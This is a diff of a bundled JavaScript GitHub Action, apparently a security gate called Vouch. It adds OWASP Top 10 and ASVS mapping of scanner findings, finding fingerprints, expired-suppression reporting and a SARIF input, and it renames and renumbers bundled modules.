@@ -43163,7 +50841,7 @@ const escape_escape = (s, { windowsPathsNoEscape = false, magicalBraces = false,
     return e;
 };
 //# sourceMappingURL=escape.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/minimatch/dist/esm/unescape.js
+;// CONCATENATED MODULE: ./node_modules/minimatch/dist/esm/unescape.js
 /**
  * Un-escape a string that has been escaped with {@link escape}.
  *
@@ -43202,7 +50880,7 @@ const unescape_unescape = (s, { windowsPathsNoEscape = false, magicalBraces = tr
             .replace(/\\([^/{}])/g, '$1');
 };
 //# sourceMappingURL=unescape.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/minimatch/dist/esm/index.js
+;// CONCATENATED MODULE: ./node_modules/minimatch/dist/esm/index.js
 
 
 
@@ -43457,7 +51135,7 @@ const braceExpand = (pattern, options = {}) => {
     if (options.windowsPathsNoEscape || options[AWE_KEY] === false) {
         p = p.replace(/\[([{}])\]/g, '[\\$1]');
     }
-    return expand(p, { max: options.braceExpandMax });
+    return esm_expand(p, { max: options.braceExpandMax });
 };
 minimatch.braceExpand = braceExpand;
 // A numeric range with at least this many values is matched as one
@@ -45076,6 +52754,173 @@ minimatch.Minimatch = Minimatch;
 minimatch.escape = escape_escape;
 minimatch.unescape = unescape_unescape;
 //# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./data/mappings/asvs-rule-families.json
+const asvs_rule_families_namespaceObject = /*#__PURE__*/JSON.parse('{"T":[{"rule":"gitleaks/*","asvs":["v5.0.0-13.3.1"],"why":"secrets kept out of source code and build artifacts"},{"rule":"checkov/CKV_SECRET_*","asvs":["v5.0.0-13.3.1"],"why":"secrets kept out of source code and build artifacts"},{"rule":"osv-scanner/MAL-*","asvs":["v5.0.0-15.2.4","v5.0.0-15.2.1"],"why":"components come from the expected repository; no known-bad components"},{"rule":"osv-scanner/*","asvs":["v5.0.0-15.2.1"],"why":"components within their update and remediation time frames"}]}');
+;// CONCATENATED MODULE: ./src/findings/asvs.ts
+
+
+/** ASVS 5.0.0 ids for a rule that carries none, from the curated rule-family table. */
+function asvsForRule(ruleId) {
+    return asvs_rule_families_namespaceObject.T.find((family) => minimatch(ruleId, family.rule))?.asvs ?? [];
+}
+
+;// CONCATENATED MODULE: ./data/mappings/owasp-top10-cwe.json
+const owasp_top10_cwe_namespaceObject = /*#__PURE__*/JSON.parse('{"2021":{"A01:2021":{"title":"Broken Access Control","cwes":[22,23,35,59,200,201,219,264,275,276,284,285,352,359,377,402,425,441,497,538,540,548,552,566,601,639,651,668,706,862,863,913,922,1275]},"A02:2021":{"title":"Cryptographic Failures","cwes":[259,261,296,310,319,321,322,323,324,325,326,327,328,329,330,331,335,336,337,338,340,347,523,720,757,759,760,780,818,916]},"A03:2021":{"title":"Injection","cwes":[20,74,75,77,78,79,80,83,87,88,89,90,91,93,94,95,96,97,98,99,100,113,116,138,184,470,471,564,610,643,644,652,917]},"A04:2021":{"title":"Insecure Design","cwes":[73,183,209,213,235,256,257,266,269,280,311,312,313,316,419,430,434,444,451,472,501,522,525,539,579,598,602,642,646,650,653,656,657,799,807,840,841,927,1021,1173]},"A05:2021":{"title":"Security Misconfiguration","cwes":[2,11,13,15,16,260,315,520,526,537,541,547,611,614,756,776,942,1004,1032,1174]},"A06:2021":{"title":"Vulnerable and Outdated Components","cwes":[937,1035,1104]},"A07:2021":{"title":"Identification and Authentication Failures","cwes":[255,259,287,288,290,294,295,297,300,302,304,306,307,346,384,521,613,620,640,798,940,1216]},"A08:2021":{"title":"Software and Data Integrity Failures","cwes":[345,353,426,494,502,565,784,829,830,915]},"A09:2021":{"title":"Security Logging and Monitoring Failures","cwes":[117,223,532,778]},"A10:2021":{"title":"Server-Side Request Forgery (SSRF)","cwes":[918]}},"2025":{"A01:2025":{"title":"Broken Access Control","cwes":[22,23,36,59,61,65,200,201,219,276,281,282,283,284,285,352,359,377,379,402,424,425,441,497,538,540,548,552,566,601,615,639,668,732,749,862,863,918,922,1275]},"A02:2025":{"title":"Security Misconfiguration","cwes":[5,11,13,15,16,260,315,489,526,547,611,614,776,942,1004,1174]},"A03:2025":{"title":"Software Supply Chain Failures","cwes":[447,1035,1104,1329,1357,1395]},"A04:2025":{"title":"Cryptographic Failures","cwes":[261,296,319,320,321,322,323,324,325,326,327,328,329,330,331,332,334,335,336,337,338,340,342,347,523,757,759,760,780,916,1240,1241]},"A05:2025":{"title":"Injection","cwes":[20,74,76,77,78,79,80,83,86,88,89,90,91,93,94,95,96,97,98,99,103,104,112,113,114,115,116,129,159,470,493,500,564,610,643,644,917]},"A06:2025":{"title":"Insecure Design","cwes":[73,183,256,266,269,286,311,312,313,316,362,382,419,434,436,444,451,454,472,501,522,525,539,598,602,628,642,646,653,656,657,676,693,799,807,841,1021,1022,1125]},"A07:2025":{"title":"Authentication Failures","cwes":[258,259,287,288,289,290,291,293,294,295,297,298,299,300,302,303,304,305,306,307,308,309,346,350,384,521,613,620,640,798,940,941,1390,1391,1392,1393]},"A08:2025":{"title":"Software or Data Integrity Failures","cwes":[345,353,426,427,494,502,506,509,565,784,829,830,915,926]},"A09:2025":{"title":"Security Logging and Alerting Failures","cwes":[117,221,223,532,778]},"A10:2025":{"title":"Mishandling of Exceptional Conditions","cwes":[209,215,234,235,248,252,274,280,369,390,391,394,396,397,460,476,478,484,550,636,703,754,755,756]}},"source":"OWASP Top 10 2021 and 2025, \'List of Mapped CWEs\' of each category (github.com/OWASP/Top10, docs/en/A0x_*.md)","license":"CC BY-SA 4.0 (OWASP Foundation); keep this attribution with any data derived from it"}');
+;// CONCATENATED MODULE: ./src/findings/taxonomy.ts
+
+function indexEdition(edition, data) {
+    const byCwe = new Map();
+    for (const [id, category] of Object.entries(data)) {
+        for (const cwe of category.cwes) {
+            const list = byCwe.get(cwe) ?? [];
+            list.push({ id, title: category.title, edition });
+            byCwe.set(cwe, list);
+        }
+    }
+    return byCwe;
+}
+const BY_EDITION = {
+    '2021': indexEdition('2021', owasp_top10_cwe_namespaceObject[2021]),
+    '2025': indexEdition('2025', owasp_top10_cwe_namespaceObject[2025]),
+};
+/** Official OWASP Top 10 categories whose mapped-CWE list holds any of the given `CWE-<n>` ids. */
+function owaspCategories(cweIds, edition) {
+    const found = new Map();
+    for (const cwe of cweIds) {
+        const match = /^CWE-(\d+)$/.exec(cwe);
+        if (!match?.[1])
+            continue;
+        for (const category of BY_EDITION[edition].get(Number(match[1])) ?? [])
+            found.set(category.id, category);
+    }
+    return [...found.values()].sort((a, b) => a.id.localeCompare(b.id));
+}
+const OWASP_ATTRIBUTION = owasp_top10_cwe_namespaceObject.license;
+/** Category id → title for one edition, for tables. */
+function owaspCategoryTitles(edition) {
+    return new Map(Object.entries(owasp_top10_cwe_namespaceObject[edition]).map(([id, category]) => [id, category.title]));
+}
+
+;// CONCATENATED MODULE: ./src/findings/normalize.ts
+
+
+
+
+
+class UnknownRuleError extends Error {
+    ruleId;
+    constructor(ruleId) {
+        super(`result for rule ${ruleId}, which the scanner did not declare`);
+        this.ruleId = ruleId;
+    }
+}
+/** Detections of one scanner → Findings: rule metadata, severity, taxonomy, GitHub line hash, fingerprint. */
+async function normalizeDetections(input) {
+    const rules = new Map(input.rules.map((rule) => [rule.id, rule]));
+    const hashCache = new Map();
+    const findings = [];
+    for (const detection of input.detections) {
+        const rule = rules.get(detection.ruleId);
+        if (!rule)
+            throw new UnknownRuleError(detection.ruleId);
+        const lineHash = await lineHashFor(detection, hashCache, input.readText);
+        findings.push(toFinding(input.tool, rule, detection, lineHash));
+    }
+    return findings;
+}
+async function lineHashFor(detection, cache, readText) {
+    const path = detection.location.path;
+    if (!cache.has(path)) {
+        const text = await readText(path);
+        cache.set(path, text === undefined ? undefined : lineHashes(text));
+    }
+    // A result for the whole file is fingerprinted on line 1, as GitHub's uploader does.
+    const line = detection.location.region?.startLine ?? 1;
+    return cache.get(path)?.[line - 1];
+}
+function toFinding(tool, rule, detection, lineHash) {
+    const severity = detection.severity ??
+        (detection.securitySeverity ? severityFromScore(detection.securitySeverity) : rule.severity);
+    const securitySeverity = detection.securitySeverity ?? (detection.severity ? defaultScore(severity) : rule.securitySeverity);
+    return {
+        tool,
+        ruleId: rule.id,
+        message: detection.message,
+        severity,
+        securitySeverity,
+        location: detection.location,
+        cwe: rule.cwe,
+        owasp2021: owaspCategories(rule.cwe, '2021').map((c) => c.id),
+        owasp2025: owaspCategories(rule.cwe, '2025').map((c) => c.id),
+        asvs: rule.asvs.length > 0 ? rule.asvs : asvsForRule(rule.id),
+        fingerprint: fingerprint(rule.id, detection, lineHash),
+        lineHash,
+        evidence: detection.evidence,
+        alsoReportedBy: [],
+    };
+}
+/** Stable across line moves (uses the line's content hash), distinct per rule and file. */
+function fingerprint(ruleId, detection, lineHash) {
+    const anchor = lineHash ?? `line:${detection.location.region?.startLine ?? 0}`;
+    return (0,external_node_crypto_.createHash)('sha256')
+        .update(`${ruleId}\0${detection.location.path}\0${anchor}`)
+        .digest('hex')
+        .slice(0, 32);
+}
+
+;// CONCATENATED MODULE: ./src/policy/expired.ts
+
+const POLICY_TOOL = 'vouch-policy';
+const EXPIRED_SUPPRESSION_RULE = {
+    id: 'vouch-policy/expired-suppression',
+    name: 'expired-suppression',
+    shortDescription: 'Expired suppression',
+    fullDescription: 'A suppression passed its expiry date. It no longer hides the findings it matched, and it blocks the build until it is renewed with a fresh review or removed.',
+    help: [
+        'Every Vouch suppression carries a reason, an owner and an expiry date so that exceptions are reviewed.',
+        '',
+        '- If the risk is still accepted, have the owner review it and set a new `expires` date.',
+        '- If the finding was fixed, delete the suppression.',
+    ].join('\n'),
+    severity: 'high',
+    securitySeverity: 7.0,
+    precision: 'very-high',
+    cwe: [],
+    asvs: [],
+    tags: ['policy'],
+};
+function isExpired(suppression, today) {
+    return suppression.expires < today;
+}
+/** An expired suppression is reported where it is written, as a finding of its own. */
+function expiredSuppressionFinding(suppression) {
+    const what = [
+        suppression.rule && `rule ${suppression.rule}`,
+        suppression.fingerprint && `fingerprint ${suppression.fingerprint}`,
+        suppression.path && `path ${suppression.path}`,
+    ]
+        .filter(Boolean)
+        .join(', ');
+    const line = suppression.source.line ?? 1;
+    return {
+        tool: POLICY_TOOL,
+        ruleId: EXPIRED_SUPPRESSION_RULE.id,
+        message: `Suppression of ${what} (owner ${suppression.owner}) expired on ${suppression.expires}; it no longer suppresses and blocks until renewed or removed.`,
+        severity: EXPIRED_SUPPRESSION_RULE.severity,
+        securitySeverity: EXPIRED_SUPPRESSION_RULE.securitySeverity,
+        location: { path: suppression.source.file, region: { startLine: line } },
+        cwe: [],
+        owasp2021: [],
+        owasp2025: [],
+        asvs: [],
+        fingerprint: (0,external_node_crypto_.createHash)('sha256')
+            .update(`expired\0${suppression.source.file}\0${line}\0${suppression.expires}`)
+            .digest('hex')
+            .slice(0, 32),
+        alsoReportedBy: [],
+    };
+}
+
 ;// CONCATENATED MODULE: ./src/policy/match.ts
 
 
@@ -45160,7 +53005,7 @@ function isNewFinding(finding, context) {
 
 ;// CONCATENATED MODULE: ./src/policy/thresholds.ts
 
-function where(source) {
+function thresholds_where(source) {
     return source.line === undefined ? source.file : `${source.file}:${source.line}`;
 }
 /**
@@ -45182,7 +53027,7 @@ function thresholdReasons(candidates, policy) {
         const matching = candidates.filter((finding) => thresholdMatches(threshold, finding));
         if (matching.length <= threshold.max)
             continue;
-        const reason = `${matching.length} finding(s) match ${threshold.label} (${describeSelectors(threshold)}) at ${where(threshold.source)}, which allows at most ${threshold.max}`;
+        const reason = `${matching.length} finding(s) match ${threshold.label} (${describeSelectors(threshold)}) at ${thresholds_where(threshold.source)}, which allows at most ${threshold.max}`;
         for (const finding of matching)
             add(finding, reason);
     }
@@ -45295,8 +53140,8 @@ function byImportance(a, b) {
         a.ruleId.localeCompare(b.ruleId));
 }
 
-// EXTERNAL MODULE: ../../work/main/node_modules/ignore/index.js
-var ignore = __nccwpck_require__(9034);
+// EXTERNAL MODULE: ./node_modules/ignore/index.js
+var ignore = __nccwpck_require__(298);
 var ignore_default = /*#__PURE__*/__nccwpck_require__.n(ignore);
 ;// CONCATENATED MODULE: ./src/core/discover.ts
 
@@ -45307,12 +53152,12 @@ const BINARY_SNIFF_BYTES = 8000;
 async function discover(options) {
     const files = [];
     const skipped = [];
-    await walk(options, '', [], { files, skipped });
+    await discover_walk(options, '', [], { files, skipped });
     files.sort();
     skipped.sort((a, b) => a.path.localeCompare(b.path));
     return { files, skipped };
 }
-async function walk(options, dir, scopes, out) {
+async function discover_walk(options, dir, scopes, out) {
     const absDir = external_node_path_.posix.join(options.root, dir);
     let entries;
     try {
@@ -45330,7 +53175,7 @@ async function walk(options, dir, scopes, out) {
         if (entry.kind === 'symlink')
             out.skipped.push({ path, reason: 'symlink' });
         else if (entry.kind === 'directory')
-            await walk(options, path, localScopes, out);
+            await discover_walk(options, path, localScopes, out);
         else if (entry.kind === 'file')
             await keepFile(options, path, out);
         else
@@ -45510,7 +53355,7 @@ const SARIF_SCHEMA_URI = 'https://json.schemastore.org/sarif-2.1.0.json';
 const MAX_DESCRIPTION_LENGTH = 1024;
 /** GitHub keeps at most this many tags per rule. */
 const MAX_TAGS = 20;
-const LEVELS = {
+const render_LEVELS = {
     critical: 'error',
     high: 'error',
     medium: 'warning',
@@ -45518,7 +53363,7 @@ const LEVELS = {
     info: 'note',
 };
 function sarifLevel(severity) {
-    return LEVELS[severity];
+    return render_LEVELS[severity];
 }
 const EDITIONS = ['2021', '2025'];
 const SEMVER = /^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/;
@@ -45548,7 +53393,7 @@ function cweTag(cwe) {
     const match = /^CWE-(\d+)$/i.exec(cwe);
     return match?.[1] ? `external/cwe/cwe-${match[1].padStart(3, '0')}` : undefined;
 }
-function ruleTags(rule, categories) {
+function render_ruleTags(rule, categories) {
     const security = rule.severity !== 'info';
     const tags = [
         ...(security ? ['security'] : []),
@@ -45611,7 +53456,7 @@ function renderRule(rule, categories, runTaxonomies) {
         defaultConfiguration: { level: sarifLevel(rule.severity) },
         ...(related.length > 0 ? { relationships: related } : {}),
         properties: {
-            tags: ruleTags(rule, categories),
+            tags: render_ruleTags(rule, categories),
             precision: rule.precision,
             ...(rule.severity === 'info' ? {} : { 'security-severity': securitySeverity(rule) }),
         },
@@ -45863,6 +53708,7 @@ function resultsRecord(input) {
 
 
 
+
 /** discover → scan (concurrently) → normalize → judge → emit. */
 async function runGate(request) {
     const { policy, ports } = request;
@@ -45879,8 +53725,17 @@ async function runGate(request) {
     });
     const enabled = request.adapters.filter((adapter) => scannerSettings(policy, adapter.id).enabled);
     const readText = fileReader(request.root, discovery, ports);
-    const scanners = await Promise.all(enabled.map((adapter) => runScanner(request, adapter, discovery, readText)));
-    const findings = scanners.flatMap((run) => run.findings).sort(pipeline_byImportance);
+    const scanned = await Promise.all(enabled.map((adapter) => pipeline_runScanner(request, adapter, discovery, readText)));
+    const { findings: unique, replacedBy } = dedupeAcrossTools(scanned.flatMap((run) => run.findings));
+    const findings = [...unique].sort(pipeline_byImportance);
+    // Each scanner's SARIF run keeps only the findings that stand for themselves after merging.
+    const scanners = scanned.map((run) => ({
+        ...run,
+        findings: run.findings.flatMap((f) => {
+            const kept = replacedBy.get(f);
+            return kept && kept.tool === f.tool && kept.fingerprint === f.fingerprint ? [kept] : [];
+        }),
+    }));
     const decision = judge({
         findings,
         scanners,
@@ -45891,7 +53746,7 @@ async function runGate(request) {
     const outputs = await emitOutputs({ request, scanners, findings, decision, discovery });
     return { decision, findings, scanners, discovery, outputs };
 }
-async function runScanner(request, adapter, discovery, readText) {
+async function pipeline_runScanner(request, adapter, discovery, readText) {
     const { ports } = request;
     const settings = scannerSettings(request.policy, adapter.id);
     request.onProgress?.({ kind: 'scanner-started', scanner: adapter.id });
@@ -45975,7 +53830,7 @@ function pipeline_byImportance(a, b) {
 
 
 /** What both entry points call: policy, scanners, tools, then the gate. */
-async function scanRepository(request) {
+async function scan_scanRepository(request) {
     const root = (0,external_node_path_.resolve)(request.root);
     if ((await request.ports.fs.lstat(root))?.kind !== 'directory') {
         throw new errors_ConfigError('INVALID_PATH', `repository to scan is not a directory: ${request.root}`);
@@ -46003,6 +53858,7 @@ async function scanRepository(request) {
         vouchRoot: request.vouchRoot,
         vouchVersion: request.vouchVersion,
         toolVersion: (id) => toolPin(id)?.version ?? 'unknown',
+        sarifPatterns: request.sarif ?? [],
     });
     const executables = {};
     for (const adapter of adapters) {
@@ -46064,7 +53920,7 @@ function annotate(decision) {
 }
 
 // EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __nccwpck_require__(3024);
+var external_node_fs_ = __nccwpck_require__(8262);
 ;// CONCATENATED MODULE: ./src/action/inputs.ts
 
 
@@ -46126,6 +53982,10 @@ function readSettings(env = process.env) {
         installScanners: booleanInput('install-scanners', true),
         annotations: booleanInput('annotations', true),
         base: baseCommit(env),
+        sarif: getMultilineInput('sarif')
+            .flatMap((line) => line.split(','))
+            .map((pattern) => pattern.trim())
+            .filter((pattern) => pattern !== ''),
     };
 }
 
@@ -46273,13 +54133,14 @@ async function writeSummary(result) {
 async function runAction(context) {
     try {
         const settings = readSettings();
-        const result = await scanRepository({
+        const result = await scan_scanRepository({
             root: settings.scanPath,
             outDir: settings.outputDir,
             policy: settings.policy,
             cacheDir: settings.cacheDir,
             install: settings.installScanners,
             base: settings.base,
+            sarif: settings.sarif,
             vouchRoot: context.vouchRoot,
             vouchVersion: context.vouchVersion,
             ports: {
@@ -46321,13 +54182,13 @@ async function runAction(context) {
 
 /***/ }),
 
-/***/ 2374:
+/***/ 4045:
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _action_run_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(7406);
-/* harmony import */ var _paths_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(454);
-/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(5948);
+/* harmony import */ var _action_run_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(9736);
+/* harmony import */ var _paths_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(8431);
+/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(1013);
 
 
 
@@ -46338,13 +54199,13 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 454:
+/***/ 8431:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 /* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
 /* harmony export */   F: () => (/* binding */ VOUCH_ROOT)
 /* harmony export */ });
-/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3024);
+/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(8262);
 /* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__nccwpck_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
 /* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(6760);
 /* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__nccwpck_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
@@ -46374,7 +54235,7 @@ const VOUCH_ROOT = findVouchRoot();
 
 /***/ }),
 
-/***/ 5948:
+/***/ 1013:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -46490,7 +54351,7 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:events"
 
 /***/ }),
 
-/***/ 3024:
+/***/ 8262:
 /***/ ((module) => {
 
 module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
@@ -46616,13 +54477,13 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("util");
 
 /***/ }),
 
-/***/ 3816:
+/***/ 4352:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { normalizeIPv6, removeDotSegments, removeDotSegmentsRelative, recomposeAuthority, normalizePercentEncoding, normalizePathEncoding, serializePathEncoding, normalizeQueryFragmentEncoding, encodeQuery, encodeFragment, reescapeHostDelimiters, isIPv4, nonSimpleDomain } = __nccwpck_require__(9725)
-const { SCHEMES, getSchemeHandler } = __nccwpck_require__(2210)
+const { normalizeIPv6, removeDotSegments, removeDotSegmentsRelative, recomposeAuthority, normalizePercentEncoding, normalizePathEncoding, serializePathEncoding, normalizeQueryFragmentEncoding, encodeQuery, encodeFragment, reescapeHostDelimiters, isIPv4, nonSimpleDomain } = __nccwpck_require__(5077)
+const { SCHEMES, getSchemeHandler } = __nccwpck_require__(5300)
 
 const VALID_SCHEME = /^[A-Za-z][A-Za-z0-9+.-]*$/u
 const MALFORMED_SCHEME_ERROR = 'URI scheme is malformed.'
@@ -47334,12 +55195,12 @@ module.exports.fastUri = fastUri
 
 /***/ }),
 
-/***/ 2210:
+/***/ 5300:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { isUUID } = __nccwpck_require__(9725)
+const { isUUID } = __nccwpck_require__(5077)
 const URN_REG = /^([\da-z][\d\-a-z]{0,31}):((?:[\w!$'()*+,\-./:;=@]|%[\da-f]{2})+)$/iu
 
 const supportedSchemeNames = /** @type {const} */ (['http', 'https', 'ws',
@@ -47613,7 +55474,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 9725:
+/***/ 5077:
 /***/ ((module) => {
 
 
@@ -48419,18 +56280,18 @@ module.exports = {
 
 /***/ }),
 
-/***/ 5434:
+/***/ 7349:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Scalar = __nccwpck_require__(2765);
-var YAMLMap = __nccwpck_require__(1950);
-var YAMLSeq = __nccwpck_require__(7495);
-var resolveBlockMap = __nccwpck_require__(6519);
-var resolveBlockSeq = __nccwpck_require__(2662);
-var resolveFlowCollection = __nccwpck_require__(4206);
+var identity = __nccwpck_require__(1127);
+var Scalar = __nccwpck_require__(3301);
+var YAMLMap = __nccwpck_require__(4454);
+var YAMLSeq = __nccwpck_require__(2223);
+var resolveBlockMap = __nccwpck_require__(7103);
+var resolveBlockSeq = __nccwpck_require__(334);
+var resolveFlowCollection = __nccwpck_require__(3142);
 
 function resolveCollection(CN, ctx, token, onError, tagName, tag) {
     const coll = token.type === 'block-map'
@@ -48516,15 +56377,15 @@ exports.composeCollection = composeCollection;
 
 /***/ }),
 
-/***/ 5899:
+/***/ 3683:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Document = __nccwpck_require__(6885);
-var composeNode = __nccwpck_require__(4873);
-var resolveEnd = __nccwpck_require__(644);
-var resolveProps = __nccwpck_require__(2207);
+var Document = __nccwpck_require__(3021);
+var composeNode = __nccwpck_require__(5937);
+var resolveEnd = __nccwpck_require__(7788);
+var resolveProps = __nccwpck_require__(4631);
 
 function composeDoc(options, directives, { offset, start, value, end }, onError) {
     const opts = Object.assign({ _directives: directives }, options);
@@ -48568,17 +56429,17 @@ exports.composeDoc = composeDoc;
 
 /***/ }),
 
-/***/ 4873:
+/***/ 5937:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Alias = __nccwpck_require__(7641);
-var identity = __nccwpck_require__(415);
-var composeCollection = __nccwpck_require__(5434);
-var composeScalar = __nccwpck_require__(3293);
-var resolveEnd = __nccwpck_require__(644);
-var utilEmptyScalarPosition = __nccwpck_require__(4831);
+var Alias = __nccwpck_require__(4065);
+var identity = __nccwpck_require__(1127);
+var composeCollection = __nccwpck_require__(7349);
+var composeScalar = __nccwpck_require__(5413);
+var resolveEnd = __nccwpck_require__(7788);
+var utilEmptyScalarPosition = __nccwpck_require__(2599);
 
 const CN = { composeNode, composeEmptyNode };
 function composeNode(ctx, token, props, onError) {
@@ -48687,15 +56548,15 @@ exports.composeNode = composeNode;
 
 /***/ }),
 
-/***/ 3293:
+/***/ 5413:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Scalar = __nccwpck_require__(2765);
-var resolveBlockScalar = __nccwpck_require__(809);
-var resolveFlowScalar = __nccwpck_require__(8066);
+var identity = __nccwpck_require__(1127);
+var Scalar = __nccwpck_require__(3301);
+var resolveBlockScalar = __nccwpck_require__(8913);
+var resolveFlowScalar = __nccwpck_require__(6842);
 
 function composeScalar(ctx, token, tagToken, onError) {
     const { value, type, comment, range } = token.type === 'block-scalar'
@@ -48782,18 +56643,18 @@ exports.composeScalar = composeScalar;
 
 /***/ }),
 
-/***/ 3480:
+/***/ 9984:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
 var node_process = __nccwpck_require__(932);
-var directives = __nccwpck_require__(2342);
-var Document = __nccwpck_require__(6885);
-var errors = __nccwpck_require__(3376);
-var identity = __nccwpck_require__(415);
-var composeDoc = __nccwpck_require__(5899);
-var resolveEnd = __nccwpck_require__(644);
+var directives = __nccwpck_require__(1342);
+var Document = __nccwpck_require__(3021);
+var errors = __nccwpck_require__(1464);
+var identity = __nccwpck_require__(1127);
+var composeDoc = __nccwpck_require__(3683);
+var resolveEnd = __nccwpck_require__(7788);
 
 function getErrorPos(src) {
     if (typeof src === 'number')
@@ -49013,17 +56874,17 @@ exports.Composer = Composer;
 
 /***/ }),
 
-/***/ 6519:
+/***/ 7103:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Pair = __nccwpck_require__(4245);
-var YAMLMap = __nccwpck_require__(1950);
-var resolveProps = __nccwpck_require__(2207);
-var utilContainsNewline = __nccwpck_require__(9699);
-var utilFlowIndentCheck = __nccwpck_require__(7723);
-var utilMapIncludes = __nccwpck_require__(8539);
+var Pair = __nccwpck_require__(7165);
+var YAMLMap = __nccwpck_require__(4454);
+var resolveProps = __nccwpck_require__(4631);
+var utilContainsNewline = __nccwpck_require__(9499);
+var utilFlowIndentCheck = __nccwpck_require__(4051);
+var utilMapIncludes = __nccwpck_require__(1187);
 
 const startColMsg = 'All mapping items must start at the same column';
 function resolveBlockMap({ composeNode, composeEmptyNode }, ctx, bm, onError, tag) {
@@ -49137,12 +56998,12 @@ exports.resolveBlockMap = resolveBlockMap;
 
 /***/ }),
 
-/***/ 809:
+/***/ 8913:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
+var Scalar = __nccwpck_require__(3301);
 
 function resolveBlockScalar(ctx, scalar, onError) {
     const start = scalar.offset;
@@ -49344,14 +57205,14 @@ exports.resolveBlockScalar = resolveBlockScalar;
 
 /***/ }),
 
-/***/ 2662:
+/***/ 334:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var YAMLSeq = __nccwpck_require__(7495);
-var resolveProps = __nccwpck_require__(2207);
-var utilFlowIndentCheck = __nccwpck_require__(7723);
+var YAMLSeq = __nccwpck_require__(2223);
+var resolveProps = __nccwpck_require__(4631);
+var utilFlowIndentCheck = __nccwpck_require__(4051);
 
 function resolveBlockSeq({ composeNode, composeEmptyNode }, ctx, bs, onError, tag) {
     const NodeClass = tag?.nodeClass ?? YAMLSeq.YAMLSeq;
@@ -49402,7 +57263,7 @@ exports.resolveBlockSeq = resolveBlockSeq;
 
 /***/ }),
 
-/***/ 644:
+/***/ 7788:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -49448,19 +57309,19 @@ exports.resolveEnd = resolveEnd;
 
 /***/ }),
 
-/***/ 4206:
+/***/ 3142:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Pair = __nccwpck_require__(4245);
-var YAMLMap = __nccwpck_require__(1950);
-var YAMLSeq = __nccwpck_require__(7495);
-var resolveEnd = __nccwpck_require__(644);
-var resolveProps = __nccwpck_require__(2207);
-var utilContainsNewline = __nccwpck_require__(9699);
-var utilMapIncludes = __nccwpck_require__(8539);
+var identity = __nccwpck_require__(1127);
+var Pair = __nccwpck_require__(7165);
+var YAMLMap = __nccwpck_require__(4454);
+var YAMLSeq = __nccwpck_require__(2223);
+var resolveEnd = __nccwpck_require__(7788);
+var resolveProps = __nccwpck_require__(4631);
+var utilContainsNewline = __nccwpck_require__(9499);
+var utilMapIncludes = __nccwpck_require__(1187);
 
 const blockMsg = 'Block collections are not allowed within flow collections';
 const isBlock = (token) => token && (token.type === 'block-map' || token.type === 'block-seq');
@@ -49664,13 +57525,13 @@ exports.resolveFlowCollection = resolveFlowCollection;
 
 /***/ }),
 
-/***/ 8066:
+/***/ 6842:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
-var resolveEnd = __nccwpck_require__(644);
+var Scalar = __nccwpck_require__(3301);
+var resolveEnd = __nccwpck_require__(7788);
 
 function resolveFlowScalar(scalar, strict, onError) {
     const { offset, type, source, end } = scalar;
@@ -49899,7 +57760,7 @@ exports.resolveFlowScalar = resolveFlowScalar;
 
 /***/ }),
 
-/***/ 2207:
+/***/ 4631:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -50054,7 +57915,7 @@ exports.resolveProps = resolveProps;
 
 /***/ }),
 
-/***/ 9699:
+/***/ 9499:
 /***/ ((__unused_webpack_module, exports) => {
 
 
